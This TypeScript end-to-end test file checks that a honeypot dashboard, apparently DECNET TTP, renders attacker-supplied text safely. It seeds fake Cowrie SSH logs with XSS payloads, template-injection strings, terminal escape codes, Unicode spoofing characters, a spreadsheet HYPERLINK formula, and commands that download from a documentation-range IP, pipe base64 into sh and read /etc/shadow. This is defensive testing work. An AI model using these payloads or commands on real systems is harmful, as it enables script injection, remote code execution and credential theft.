/** Text made to do harm, in every field that attackers fill: nothing runs, and every page stays usable. */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';

import { isDrawn, logIn, openBrowser, visit } from './browser';
import { install, type Installation } from './installation';
import { cowrieSession } from './records';

const RAN = 'document.title="ran";window.ran=1';
const LONG = 'A'.repeat(65_536);
const TEXTS = {
  script: `<script>${RAN}</script>`,
  image: `"><img src=x onerror='${RAN}'>`,
  svg: `<svg/onload=${RAN}>`,
  link: `javascript:${RAN}`,
  template: '{{constructor.constructor("window.ran=1")()}}${window.ran=1}',
  style: '</style><style>*{display:none}</style>',
  entity: '&lt;script&gt;&#x3c;b>',
  direction: 'wget \u202egnp.exe\u202c # \u2066abc\u2069',
  unseen: 'r\u200bo\u200do\ufefft\u00ad\u2060',
  terminal: '\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\u0008',
  rightToLeft: 'שלום עולם مرحبا بالعالم',
  combining: `e${'\u0301'.repeat(400)}`,
  surrogate: 'half \ud800 a pair',
  formula: '=HYPERLINK("http://203.0.113.9","x")',
  long: LONG,
};
const ADDRESS = '203.0.113.77';
const PAGES = [
  '/',
  '/techniques',
  '/identities',
  '/attackers',
  '/sessions',
  '/campaigns',
  '/rules',
  '/operations',
  '/operations?part=audit',
];

let at: Installation;
let browser: Browser;

beforeAll(async () => {
  const folder = await mkdtemp(join(tmpdir(), 'decnet-hostile-'));
  const log = join(folder, 'cowrie.json');
  const visits = Object.values(TEXTS).map((text, index) =>
    cowrieSession({
      address: ADDRESS,
      at: Date.now() - 3_600_000 + index * 60_000,
      sensor: text.slice(0, 120),
      user: text,
      version: `SSH-2.0-${text}`,
      commands: [text, `wget http://203.0.113.9/x -O '${text}'`, `echo '${text}' | base64 -d | sh; cat /etc/shadow`],
      downloads: [`http://203.0.113.9/${text}`],
    }),
  );
  await writeFile(log, visits.join(''));
  [at, browser] = await Promise.all([install([log]), openBrowser()]);
});
afterAll(async () => {
  await browser.close();
  await at.end();
});

async function isUsable(page: Page): Promise<void> {
  await isDrawn(page);
  expect(await page.title()).toBe('DECNET TTP');
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  const { overflow, links } = await page.evaluate(() => ({
    overflow: document.documentElement.scrollWidth - innerWidth,
    links: [...document.querySelectorAll('a')].map((link) => link.protocol).filter((one) => !/^https?:$/.test(one)),
  }));
  expect(overflow).toBeLessThanOrEqual(0);
  expect(links).toEqual([]);
  await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Overview' }).click({ trial: true });
}

test('no page runs what attackers sent, and each stays usable', async () => {
  const { page, faults } = await visit(browser);
  page.on('dialog', (dialog) => faults.push(`dialog: ${dialog.message()}`));
  await logIn(page, at, at.admin);
  for (const path of PAGES) {
    await page.goto(at.url + path);
    await isUsable(page);
  }
  for (const list of ['identities', 'attackers', 'sessions'] as const) {
    const links = await listed(page, list);
    expect(links.length).toBeGreaterThan(0);
    for (const uuid of links) {
      await page.goto(`${at.url}/${list}/${uuid}`);
      await isUsable(page);
    }
  }
  expect(faults).toEqual([]);
});

test('no tag’s drawer runs what attackers sent', async () => {
  const { page, faults } = await visit(browser);
  await logIn(page, at, at.viewer);
  const tags = await page.evaluate(async () => {
    const answer = await fetch('/api/v1/ttp/tags?min_confidence=0&limit=24');
    return ((await answer.json()) as { items: { observed_at: number; uuid: string }[] }).items;
  });
  expect(tags.length).toBeGreaterThan(10);
  for (const tag of tags) {
    await page.goto(`${at.url}/rules?tag=${tag.observed_at}.${tag.uuid}`);
    await page.getByRole('complementary', { name: 'Tag' }).getByText('Observed').waitFor();
    await isUsable(page);
  }
  expect(faults).toEqual([]);
});

test('search shows what attackers sent as text', async () => {
  const { page, faults } = await visit(browser);
  await logIn(page, at, at.viewer);
  await page.keyboard.press('Control+k');
  await page.keyboard.type('<script>');
  await page.getByRole('option', { name: '<script>' }).first().waitFor();
  await page.keyboard.press('Escape');
  await isUsable(page);
  expect(faults).toEqual([]);
});

/** The ids in a list of the API. */
function listed(page: Page, list: string): Promise<string[]> {
  return page.evaluate(async (name) => {
    const answer = await fetch(`/api/v1/${name}?limit=8`);
    return ((await answer.json()) as { items: { uuid: string }[] }).items.map((one) => one.uuid);
  }, list);
}
